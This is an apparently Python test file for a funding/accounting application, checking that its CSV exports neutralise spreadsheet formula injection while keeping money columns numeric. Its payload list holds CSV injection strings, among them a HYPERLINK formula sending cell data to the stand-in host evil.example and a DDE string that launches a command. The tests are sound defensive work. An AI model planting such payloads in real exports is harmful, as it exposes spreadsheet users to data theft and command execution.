"""No CSV the product writes lets a spreadsheet evaluate a cell someone else typed (OWASP's
CSV injection): a backer, a member or a posting label starting with = + - @ tab or CR is
written as text, while money columns stay numbers."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import pathlib

import pytest

from funding.csvout import dict_writer, neutral, writer
from funding.db import transaction
from funding.exports.books import general_ledger_csv
from funding.exports.journal import Scope, journal_csv
from funding.ledger.service import EntryDraft, credit, debit, post

ROOT = pathlib.Path(__file__).resolve().parents[2]
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1;"clic")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tcachée", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(payload):
    assert neutral(payload) == "'" + payload
    buf = io.StringIO()
    writer(buf, delimiter=";").writerow(["Élise", payload, "-12,50"])
    dict_writer(buf, ["nom"]).writerow({"nom": payload})
    cells = list(csv.reader(io.StringIO(buf.getvalue()), delimiter=";"))
    assert cells[0] == ["Élise", "'" + payload, "-12,50"]


@pytest.mark.parametrize("number", ["-12,50", "+3", "1 234,56", "-1\u202f234,56", "-0.5", "0", "-7"])
def test_amounts_and_counts_stay_numbers(number):
    assert neutral(number) == number
    assert neutral(-1250) == -1250 and neutral(None) is None and neutral("Dons manuels") == "Dons manuels"


def test_every_csv_of_the_code_goes_through_the_one_writer():
    """csv.writer and csv.DictWriter are made in funding/csvout.py only (readers are free)."""
    offenders = []
    for path in [*ROOT.joinpath("funding").rglob("*.py"), *ROOT.joinpath("webhooks").rglob("*.py")]:
        if path.name == "csvout.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, offenders


async def test_a_label_typed_by_staff_reaches_the_journal_and_ledger_exports_as_text(sessions, engine, world):
    day = dt.date.today()
    async with transaction(sessions) as session:
        await post(session, EntryDraft(
            org_id=world.org_id, site_id=world.site_id, journal="BQ", entry_date=day, piece_date=day,
            label=PAYLOADS[0], piece_ref="@PIECE", funding_source="private",
            lines=[debit("512", 1250), credit("7542", 1250, label="=1+1")]))
    scope = Scope(org_id=world.org_id, siren=world.siren, org_name="x", currency="EUR", start=day, end=day)
    async with engine.connect() as conn:
        journal = b"".join([c async for c in journal_csv(conn, scope)]).decode("utf-8-sig")
        ledger = b"".join([c async for c in general_ledger_csv(conn, scope)]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(journal), delimiter=";"))
    assert rows[1][4] == "'@PIECE" and rows[1][6] == "'" + PAYLOADS[0] and rows[2][6] == "'=1+1"
    assert "12,50" in rows[1] and "12,50" in rows[2]
    ledger_rows = list(csv.reader(io.StringIO(ledger), delimiter=";"))
    assert not [c for row in ledger_rows for c in row if c.startswith(("=", "+", "@"))]
    assert any(c == "-12,50" for row in ledger_rows for c in row)  # 7542's credit balance, still a number
